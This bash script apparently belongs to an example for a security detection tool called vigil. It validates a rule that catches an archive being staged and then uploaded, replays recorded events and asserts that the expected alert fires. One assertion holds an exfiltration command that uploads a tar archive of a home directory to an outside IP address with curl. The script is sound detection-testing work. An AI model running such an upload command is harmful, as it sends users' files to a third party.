#!/usr/bin/env bash
# Runs the sequence-rule walkthrough end to end: validate the sequence, run its tests, replay
# the recording and check that exactly the expected alert came out, twice (replay uses event
# time, so the result never depends on how fast it runs).
# Usage: examples/sequence-rule/check.sh [path/to/vigil]   (meson passes $VIGIL_BINARY)
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
vigil="${1:-${VIGIL_BINARY:-$here/../../build/vigil}}"
out="$(mktemp -d)"
trap 'rm -rf "$out"' EXIT

echo "== validate"
"$vigil" validate -r "$here/archive_upload.yaml"

echo "== validate a broken copy (every error, with file:line:col)"
sed -e 's/maxspan: 2m/maxspan: 2 minutes/' \
  "$here/archive_upload.yaml" >"$out/broken.yaml"
if "$vigil" validate -r "$out/broken.yaml" >"$out/broken.txt" 2>&1; then
  echo "broken copy validated" >&2
  exit 1
fi
cat "$out/broken.txt"
grep -q "broken.yaml:16:12: error: sequence 'Archive Staged Then Uploaded': 'maxspan' must be a positive duration" "$out/broken.txt"

echo "== test"
"$vigil" test "$here/archive_upload_test.yaml"

echo "== replay"
for run in 1 2; do
  "$vigil" replay "$here/events.jsonl" -r "$here/archive_upload.yaml" >"$out/alerts$run.jsonl" 2>"$out/replay$run.err"
done
cat "$out/alerts1.jsonl" "$out/replay1.err"
cmp "$out/alerts1.jsonl" "$out/alerts2.jsonl"
python3 - "$out/alerts1.jsonl" "$out/replay1.err" <<'PY'
import json, sys
alerts = [json.loads(l) for l in open(sys.argv[1]) if l.strip()]
summary = open(sys.argv[2]).read()
assert len(alerts) == 1, f"expected exactly 1 alert, got {len(alerts)}"
a = alerts[0]
assert a["rule"] == "Archive Staged Then Uploaded", a["rule"]
assert a["priority"] == "Warning", a["priority"]
assert a["source"] == "syscall", a["source"]
f = a["output_fields"]
assert f["step1.fd.name"] == "/tmp/home.tgz", f
assert f["step1.proc.name"] == "tar", f
assert f["proc.cmdline"] == "curl -sT /tmp/home.tgz https://203.0.113.7/drop", f
assert f["seq.key"] == "4000", f
assert a["time"].startswith("2024-11-24T15:00:40"), a["time"]
assert "7 events, 1 alerts, 0 bad lines" in summary, summary
print("sequence-rule example: OK")
PY
